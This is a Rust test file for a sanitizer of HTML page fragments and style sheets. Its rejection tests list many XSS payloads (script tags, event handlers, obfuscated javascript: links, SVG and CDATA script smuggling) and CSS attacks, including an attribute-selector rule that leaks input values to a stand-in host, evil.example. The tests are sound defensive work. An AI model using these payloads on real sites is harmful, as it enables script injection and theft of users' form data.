//! Tests of page fragments and style sheets.

use super::*;

#[test]
fn a_plain_fragment_is_written_as_it_is() {
    let text = "<p class=\"small\">Aide : <a href=\"https://help.example.org/?a=1&amp;b\">téléphone</a> <a href=\"tel:+33123456789\">01 23 45</a><br/>A &lt; B</p><!-- note -->\n";
    assert_eq!(
        check_fragment(text).unwrap(),
        "<p class=\"small\">Aide : <a href=\"https://help.example.org/?a=1&amp;b\" rel=\"noreferrer\">téléphone</a> <a href=\"tel:+33123456789\" rel=\"noreferrer\">01 23 45</a><br>A &lt; B</p>"
    );
    assert_eq!(check_fragment("  ").unwrap(), "");
    assert!(check_fragment("<p><img src=\"/assets/logo\" alt=\"\" width=\"64\"/></p>").is_ok());
}

#[test]
fn attack_a_fragment_cannot_bring_script_forms_or_frames() {
    for text in [
        "<script>alert(1)</script>",
        "<SCRIPT>alert(1)</SCRIPT>",
        "<p onclick=\"alert(1)\">x</p>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"data:text/html,x\">x</a>",
        "<a href=\"//evil.example/\">x</a>",
        "<a href=\"http://evil.example/\">x</a>",
        "<a href=\"mailto:x\">x</a>",
        "<a href=\"/api/v2/session/end\">x</a>",
        "<form action=\"/x\"><input name=\"password\"/></form>",
        "<input/>",
        "<button>x</button>",
        "<iframe src=\"https://evil.example/\"/>",
        "<object data=\"x\"/>",
        "<embed src=\"x\"/>",
        "<style>p{}</style>",
        "<link rel=\"stylesheet\" href=\"https://evil.example/\"/>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"/>",
        "<base href=\"https://evil.example/\"/>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mi>x</mi></math>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"/>",
        "<p xmlns=\"http://www.w3.org/2000/svg\">x</p>",
        "<img src=\"https://evil.example/x.png\" alt=\"\"/>",
        "<img src=\"/assets/logo\" alt=\"\" onerror=\"alert(1)\"/>",
        "<p style=\"position:fixed\">x</p>",
        "<p id=\"retry\">x</p>",
        "<p role=\"button\">x</p>",
        "<template>x</template>",
        "<noscript>x</noscript>",
        "</div><script>alert(1)</script><div>",
        "</div></main><main><div>",
        "<p>unclosed",
        "<!DOCTYPE x [<!ENTITY a \"b\">]>",
        "&nbsp;",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?>",
        "<p title=x>x</p>",
    ] {
        assert!(check_fragment(text).is_err(), "{text}");
    }
    let escaped = check_fragment("<p title=\"&quot;&gt;&lt;script&gt;\">&lt;script&gt;</p>");
    assert_eq!(escaped.unwrap(), "<p title=\"&quot;&gt;&lt;script&gt;\">&lt;script&gt;</p>");
}

#[test]
fn attack_a_style_sheet_cannot_load_or_end_itself() {
    assert!(
        check_style(".card { border-radius: 0 }\n@media print { .foot { display: none } }").is_ok()
    );
    for text in [
        "</style><script>alert(1)</script>",
        "@import \"https://evil.example/\";",
        "@IMPORT 'x';",
        "input[value^=a]{background:url(https://evil.example/a)}",
        "p{background:URL( 'x' )}",
        "p{background:\\75rl(x)}",
        "p{background:image-set('x' 1x)}",
        "@font-face{font-family:x;src:local(x)}",
    ] {
        assert!(check_style(text).is_err(), "{text}");
    }
    assert!(check_style(&"p{}".repeat(5000)).is_err());
}

#[test]
fn a_folder_has_fragments_by_language() {
    let folder = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| {
        std::fs::write(folder.path().join(name), text).unwrap();
    };
    write("footer.html", "<p>Help</p>");
    write("footer.fr.html", "<p>Aide</p>");
    write("style.css", ".card{border-radius:0}");
    write(".hidden", "x");
    let mut problems = Vec::new();
    let fragments = Fragments::read(folder.path(), &mut problems);
    assert_eq!(problems, []);
    assert_eq!(fragments.html(FragmentSlot::Footer, "fr"), "<p>Aide</p>");
    assert_eq!(fragments.html(FragmentSlot::Footer, "de"), "<p>Help</p>");
    assert_eq!(fragments.html(FragmentSlot::Header, "fr"), "");
    assert_eq!(fragments.style, ".card{border-radius:0}");
    write("header.html", "<p>\n<script>x</script></p>");
    write("foter.html", "x");
    Fragments::read(folder.path(), &mut problems);
    let found: Vec<_> = problems.iter().map(|one| (one.line, one.message.as_str())).collect();
    assert_eq!(
        found,
        [
            (None, "is not the name of a fragment"),
            (Some(2), "has the element <script>, which pages don't allow")
        ]
    );
    Fragments::read(&folder.path().join("missing"), &mut problems);
    assert_eq!(problems.len(), 3);
}
